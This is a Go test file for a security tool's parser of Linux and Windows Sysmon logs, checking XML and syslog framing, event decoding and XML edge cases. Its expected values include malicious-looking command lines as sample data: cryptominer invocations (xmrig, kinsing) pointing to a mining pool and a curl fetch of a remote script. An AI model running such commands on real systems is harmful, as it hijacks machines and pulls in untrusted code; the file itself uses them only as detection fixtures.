package host

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/mamori-sec/mamori/internal/event"
	"github.com/mamori-sec/mamori/internal/record"
)

var sysmonHint = record.Hint{Format: "sysmon"}

func TestSplitSysmonBareXMLWithTwoEvents(t *testing.T) {
	t.Parallel()
	recs, bads := split(t, SplitSysmon, fixture(t, "sysmon_two.xml"))
	if len(bads) != 0 || len(recs) != 2 || recs[0].line != 2 || recs[1].line != 33 {
		t.Fatalf("records %v bad %v; want two, at lines 2 and 33", recs, bads)
	}

	e := decodeOne(t, recs[0].json, sysmonHint, ShapeSysmon)
	want := event.Process{
		Host:  "vm-miner-01",
		Image: "/tmp/.x/xmrig",
		// Entities decoded, the raw BEL kept.
		CommandLine:   "xmrig -o stratum+tcp://pool.example:3333 --pass \"x&y\" \a",
		ParentImage:   "/usr/bin/bash",
		ParentCommand: "bash",
		User:          "azureuser",
		PID:           4321,
		ParentPID:     4300,
		SHA256:        "abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567",
	}
	if *e.Process != want {
		t.Errorf("process = %+v\nwant      %+v", *e.Process, want)
	}
	if wantT := time.Date(2023, 11, 14, 22, 13, 20, 123e6, time.UTC); !e.Time.Equal(wantT) {
		t.Errorf("time %v, want %v", e.Time, wantT)
	}
	if e.ID != "{11111111-2222-3333-4444-555555555555}" || e.Category != "Linux-Sysmon/Operational" || e.Operation != "processcreate" {
		t.Errorf("id %q category %q operation %q", e.ID, e.Category, e.Operation)
	}

	// EventID 5 (process terminated) is read and yields nothing.
	if evs, err := decode(t, recs[1].json, sysmonHint, ShapeSysmon); err != nil || len(evs) != 0 {
		t.Errorf("EventID 5: %d events, err %v", len(evs), err)
	}
}

func TestSplitSysmonSyslogLines(t *testing.T) {
	t.Parallel()
	recs, bads := split(t, SplitSysmon, fixture(t, "sysmon_syslog.log"))
	wantBad := []badLine{{4, errSysmonOpen}, {5, errNotSysmon}}
	if len(bads) != len(wantBad) {
		t.Fatalf("bad %v, want %v", bads, wantBad)
	}
	for i, b := range bads {
		if b.line != wantBad[i].line || !errors.Is(b.reason, wantBad[i].reason) {
			t.Errorf("bad[%d] = %d %v, want %d %v", i, b.line, b.reason, wantBad[i].line, wantBad[i].reason)
		}
	}
	tests := []struct {
		name string
		line int
		cmd  string // "" for no event
		at   time.Time
	}{
		{"with <pri>", 1, "/var/tmp/kinsing -o stratum+tcp://pool.example:3333", time.Date(2023, 11, 14, 22, 13, 20, 123e6, time.UTC)},
		{"without <pri>, sysmon[pid] tag", 2, "curl -s http://203.0.113.9/x.sh", time.Date(2023, 11, 14, 22, 13, 21, 456e6, time.UTC)},
		{"RFC 3339 header, EventID 5", 3, "", time.Time{}},
	}
	if len(recs) != len(tests) {
		t.Fatalf("got %d records, want %d", len(recs), len(tests))
	}
	for i, tt := range tests {
		if recs[i].line != tt.line {
			t.Errorf("%s: line %d, want %d", tt.name, recs[i].line, tt.line)
		}
		evs, err := decode(t, recs[i].json, sysmonHint, ShapeSysmon)
		if err != nil {
			t.Errorf("%s: %v", tt.name, err)
			continue
		}
		if tt.cmd == "" {
			if len(evs) != 0 {
				t.Errorf("%s: %d events, want none", tt.name, len(evs))
			}
			continue
		}
		if len(evs) != 1 || evs[0].Process.CommandLine != tt.cmd || !evs[0].Time.Equal(tt.at) ||
			evs[0].Process.Host != "vm-miner-01" || evs[0].Process.ParentImage != "/usr/sbin/cron" {
			t.Errorf("%s: got %+v", tt.name, evs)
		}
	}
}

func TestSplitSysmonFraming(t *testing.T) {
	t.Parallel()
	ev := func(id string) string {
		return `<Event><System><EventID>1</EventID><Computer>h</Computer></System><EventData><Data Name="UtcTime">2024-01-01 00:00:0` + id + `.000</Data><Data Name="CommandLine">c` + id + `</Data></EventData></Event>`
	}
	tests := []struct {
		name  string
		text  string
		lines []int // lines of the emitted records
		bad   []int // lines reported
	}{
		{"two events on one line inside <Events>", `<?xml version="1.0"?><Events>` + ev("1") + ev("2") + "</Events>\n", []int{1, 1}, nil},
		{"multi-line event cut short by the next one", "<Event>\n<System>\n" + ev("2") + "\n", []int{3}, []int{1}},
		{"unclosed event at end of file", "\n\n<Event>\n<System><EventID>1</EventID>\n", nil, []int{3}},
		{"start tag with attributes on the next line", "<Event\n xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>\n<System><EventID>1</EventID></System></Event>\n", []int{1}, nil},
		{"malformed XML inside an event", "<Event><System><EventID>1</EventID></Sys></Event>\n" + ev("3") + "\n", []int{2}, []int{1}},
		{"garbage between events", ev("1") + "\nnot xml\n" + ev("2") + "\n", []int{1, 3}, []int{2}},
		{"comments and wrapper are skipped", "<!-- export -->\n<Events>\n" + ev("1") + "\n</Events>\n", []int{3}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			recs, bads := split(t, SplitSysmon, []byte(tt.text))
			var got, gotBad []int
			for _, r := range recs {
				got = append(got, r.line)
			}
			for _, b := range bads {
				gotBad = append(gotBad, b.line)
			}
			if !equalInts(got, tt.lines) || !equalInts(gotBad, tt.bad) {
				t.Errorf("records at %v, bad at %v (%v); want %v and %v", got, gotBad, bads, tt.lines, tt.bad)
			}
		})
	}
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestDecodeSysmonObjects(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		rec     string
		events  int
		wantErr bool
		image   string
	}{
		{
			name:   "Windows Sysmon ProcessCreate decodes too",
			rec:    `{"System":{"Provider":{"Name":"Microsoft-Windows-Sysmon"},"EventID":"1","Computer":"ws1"},"EventData":{"UtcTime":"2024-01-01 00:00:00.000","Image":"C:\\x\\xmrig.exe"}}`,
			events: 1, image: `C:\x\xmrig.exe`,
		},
		{
			name:   "EventID 1 of another provider is no process creation",
			rec:    `{"System":{"Provider":{"Name":"Service Control Manager"},"EventID":"1"},"EventData":{"UtcTime":"2024-01-01 00:00:00"}}`,
			events: 0,
		},
		{
			name:   "EventID with a Qualifiers attribute",
			rec:    `{"System":{"EventID":{"Qualifiers":"0","#text":"1"}},"EventData":{"UtcTime":"2024-01-01 00:00:00","Image":"/x"}}`,
			events: 1, image: "/x",
		},
		{
			name:   "time falls back to TimeCreated",
			rec:    `{"System":{"EventID":"1","TimeCreated":{"SystemTime":"2024-01-01T00:00:00.5Z"}},"EventData":{"Image":"-"}}`,
			events: 1, image: "",
		},
		{
			name:    "ProcessCreate without any time is an error",
			rec:     `{"System":{"EventID":"1"},"EventData":{"Image":"/x"}}`,
			wantErr: true,
		},
		{
			name:    "ProcessCreate with an unreadable time is an error",
			rec:     `{"System":{"EventID":"1"},"EventData":{"UtcTime":"yesterday"}}`,
			wantErr: true,
		},
		{
			name:    "ProcessCreate without EventData is an error",
			rec:     `{"System":{"EventID":"1"}}`,
			wantErr: true,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			evs, err := decode(t, tt.rec, sysmonHint, ShapeSysmon)
			if (err != nil) != tt.wantErr {
				t.Fatalf("err %v, want error %v", err, tt.wantErr)
			}
			if len(evs) != tt.events {
				t.Fatalf("%d events, want %d", len(evs), tt.events)
			}
			if tt.events == 1 && (evs[0].Process.Image != tt.image || evs[0].Time.IsZero()) {
				t.Errorf("image %q time %v", evs[0].Process.Image, evs[0].Time)
			}
		})
	}
}

func TestSysmonSyslogRowFromLogAnalytics(t *testing.T) {
	t.Parallel()
	msg := `<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer></Computer></System><EventData><Data Name="UtcTime">2024-02-02 10:00:00.250</Data><Data Name="Image">/dev/shm/xmrig</Data><Data Name="CommandLine">/dev/shm/xmrig --donate-level=0 &lt;x&gt;</Data><Data Name="ProcessId">77</Data></EventData></Event>`
	row := `{"TenantId":"t","TimeGenerated":"2024-02-02T10:00:01Z","Computer":"vm-la-01","Facility":"user","SeverityLevel":"info","ProcessName":"sysmon","SyslogMessage":` + jsonQuote(msg) + `,"Type":"Syslog"}`
	e := decodeOne(t, row, record.Hint{Format: "json"}, ShapeSysmonSyslog)
	if e.Process.Host != "vm-la-01" || e.Process.CommandLine != "/dev/shm/xmrig --donate-level=0 <x>" || e.Process.PID != 77 {
		t.Errorf("process %+v", *e.Process)
	}
	if want := time.Date(2024, 2, 2, 10, 0, 0, 250e6, time.UTC); !e.Time.Equal(want) {
		t.Errorf("time %v, want %v", e.Time, want)
	}

	// A Sysmon status line is claimed and yields nothing; other programs' rows are not claimed.
	status := `{"TimeGenerated":"2024-02-02T10:00:01Z","ProcessName":"sysmon","SyslogMessage":"Sysmon started","Type":"Syslog"}`
	if evs, err := decode(t, status, record.Hint{Format: "json"}, ShapeSysmonSyslog); err != nil || len(evs) != 0 {
		t.Errorf("status row: %d events, err %v", len(evs), err)
	}
	sshd := `{"TimeGenerated":"2024-02-02T10:00:01Z","ProcessName":"sshd","SyslogMessage":"Accepted publickey","Type":"Syslog"}`
	if shape, ok := Detect(mustParse(t, sshd), record.Hint{Format: "json"}); ok {
		t.Errorf("sshd Syslog row claimed as %q", shape)
	}
	// A truncated event in the message is an error, not silence.
	cut := `{"TimeGenerated":"2024-02-02T10:00:01Z","ProcessName":"sysmon","SyslogMessage":"<Event><System><EventID>1</EventID>","Type":"Syslog"}`
	if _, err := decode(t, cut, record.Hint{Format: "json"}, ShapeSysmonSyslog); err == nil {
		t.Error("truncated event decoded without error")
	}
}

func TestLooksLikeSysmon(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		prefix string
		want   bool
	}{
		{"bare pretty-printed", "<Event>\n  <System>\n    <Provider Name=\"Linux-Sysmon\"/>", true},
		{"declaration and wrapper", "\xef\xbb\xbf<?xml version=\"1.0\"?>\n<Events>\n<Event xmlns='x'>\n<System>", true},
		{"syslog with pri", "<134>Nov 14 22:13:20 vm sysmon: <Event><System><Provider Name=\"Linux-Sysmon\"/>", true},
		{"syslog other program first", "Nov 14 22:13:20 vm sshd[1]: hello\nNov 14 22:13:20 vm sysmon: <Event><System>", false},
		{"Event without System", "<Event>\n<Foo/>", false},
		{"auditd", "type=EOE msg=audit(1.2:3): \n", false},
		{"JSON", `{"Event":{"System":{}}}`, false},
	}
	for _, tt := range tests {
		if got := LooksLikeSysmon([]byte(tt.prefix)); got != tt.want {
			t.Errorf("%s: LooksLikeSysmon = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestXMLReaderEdgeCases(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, xml, text string
		wantErr         bool
	}{
		{"character references", `<Data Name="a">&#65;&#x42;&#x1F600;</Data>`, "AB\U0001F600", false},
		{"unknown entity kept", `<Data Name="a">a &nbsp; b & c</Data>`, "a &nbsp; b & c", false},
		{"surrogate reference kept", `<Data Name="a">&#xD800;</Data>`, "&#xD800;", false},
		{"CDATA kept raw", `<Data Name="a"><![CDATA[<x>&amp;]]></Data>`, "<x>&amp;", false},
		{"invalid UTF-8 kept", "<Data Name=\"a\">\xff\xfe</Data>", "\xff\xfe", false},
		{"namespace prefix dropped", `<e:Data e:Name="a">v</e:Data>`, "v", false},
		{"mismatched end tag", `<Data Name="a">v</Dat>`, "", true},
		{"unquoted attribute", `<Data Name=a>v</Data>`, "", true},
		{"truncated", `<Data Name="a">v`, "", true},
		{"too deep", strings.Repeat("<a>", maxXMLDepth+2) + strings.Repeat("</a>", maxXMLDepth+2), "", true},
	}
	for _, tt := range tests {
		n, err := parseXMLElement([]byte(tt.xml))
		if (err != nil) != tt.wantErr {
			t.Errorf("%s: err %v, want error %v", tt.name, err, tt.wantErr)
			continue
		}
		if err == nil && string(n.text) != tt.text {
			t.Errorf("%s: text %q, want %q", tt.name, n.text, tt.text)
		}
	}
}
